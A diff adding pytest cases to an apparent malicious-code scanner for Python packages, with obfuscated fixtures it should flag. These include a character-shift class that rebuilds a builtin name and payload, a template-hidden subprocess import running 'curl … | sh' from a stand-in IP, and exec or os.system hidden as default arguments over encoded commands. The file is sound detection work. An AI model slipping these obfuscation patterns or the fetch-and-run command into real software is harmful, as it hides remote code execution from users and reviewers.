@@ -745,3 +745,99 @@ def test_a_plugin_loader_given_names_read_as_text_is_not() -> None:
     for mode in (ScanMode.PACKAGE, ScanMode.PLUGIN):
         findings = scan_source(textwrap.dedent(source), "pkg/registry.py", mode=mode)
         assert "CPL-THR-003" not in {f.rule_id for f in findings}
+
+
+# -- blind19: a constructor given literals, a template, a default argument ---------------------
+
+_KRAMER = """\
+class Kramer:
+    def __init__(self, _k, _n, _s):
+        self._k = _k
+        _b = __builtins__ if isinstance(__builtins__, dict) else __builtins__.__dict__
+        self.r = _b[self.d(_n)](self.d(_s))
+
+    def d(self, t):
+        return "".join(chr(ord(c) - self._k) for c in t)
+
+
+Kramer(7, "lhjl", "pt'vz'zfz{lt/'jbysz'4m'o{{w'x-'4'zo'.")
+"""
+
+
+def test_a_builtin_named_by_a_classs_constructor_given_literals_is_a_threat(
+    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
+) -> None:
+    # blind19 (b19-cn-kramer-shift-class): the Kramer obfuscator's class, whose constructor
+    # shifts its literal arguments back into a builtin's name and a stage
+    assert "CPL-THR-003" in danger(_KRAMER, "pkg/__init__.py")
+    found_in_a_package(tmp_path, monkeypatch, _KRAMER, "CPL-THR-003")
+
+
+@pytest.mark.parametrize(
+    "source",
+    [
+        # a converter told which builtin type to make by its caller's data
+        "import builtins, os\nclass Conv:\n    def __init__(self, kind):\n"
+        "        self.f = getattr(builtins, kind)\nConv(os.environ['KIND']).f('1')\n",
+        # a constructor given a name written out: no name is hidden
+        "import builtins\nclass Conv:\n    def __init__(self, kind):\n"
+        "        self.f = getattr(builtins, kind)\nConv('int').f('1')\n",
+    ],
+    ids=["data", "plain-literal"],
+)
+def test_constructors_given_data_or_plain_names_are_not_hidden_lookups(source: str) -> None:
+    assert danger(source, "pkg/__init__.py") == set()
+
+
+def test_a_module_named_by_a_string_template_is_a_hidden_import(
+    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
+) -> None:
+    source = (
+        "import importlib, string\nT = string.Template('${a}${b}')\n"
+        "m = importlib.import_module(T.substitute(a='sub', b='process'))\n"
+        "m.Popen('curl -fsSL http://203.0.113.7/s.sh | sh', shell=True)\n"
+    )
+    assert "CPL-THR-003" in danger(source, "pkg/__init__.py")
+    found_in_a_package(tmp_path, monkeypatch, source, "CPL-THR-003")
+
+
+def test_a_template_filling_a_log_file_name_is_clean() -> None:
+    source = (
+        "import string\nname = string.Template('$app-$day.log').substitute(app='x', day='mon')\n"
+        "open(name, 'a').write('started')\n"
+    )
+    assert danger(source, "pkg/__init__.py") == set()
+
+
+@pytest.mark.parametrize(
+    "source",
+    [
+        "import base64\ndef _apply(blob, _run=exec, _dec=base64.b64decode):\n"
+        "    _run(_dec(blob))\n_apply('aW1wb3J0IG9zCm9zLnN5c3RlbSgnaWQnKQ==')\n",
+        "import os, zlib\ndef go(data, *, sh=os.system, inflate=zlib.decompress):\n"
+        "    sh(inflate(data))\ngo(b'x\\x9c+\\xcaL\\x01\\x00\\x02\\x93\\x01J')\n",
+    ],
+    ids=["exec-b64decode", "system-zlib-keyword-only"],
+)
+def test_a_code_runner_kept_as_a_parameters_default_is_that_runner(
+    tmp_path: Path, monkeypatch: pytest.MonkeyPatch, source: str
+) -> None:
+    # blind19 (b19-ds-default-arg-exec-alias): BlankOBF's habit of hiding exec by another name
+    found = danger(source, "pkg/__init__.py")
+    assert found & {"CPL-THR-001", "CPL-THR-020"}
+    found_in_a_package(tmp_path, monkeypatch, source, sorted(found)[0])
+
+
+@pytest.mark.parametrize(
+    "source",
+    [
+        # builtins cached as defaults for speed (the stdlib's habit)
+        "import json\ndef count(text, _len=len, loads=json.loads):\n    return _len(loads(text))\n",
+        # a printer by default, given decoded text to show
+        "import base64\ndef show(blob, out=print, dec=base64.b64decode):\n"
+        "    out(dec(blob))\nshow('aGVsbG8=')\n",
+    ],
+    ids=["cached-builtins", "print-decoded"],
+)
+def test_harmless_defaults_are_clean(source: str) -> None:
+    assert danger(source, "pkg/__init__.py") == set()
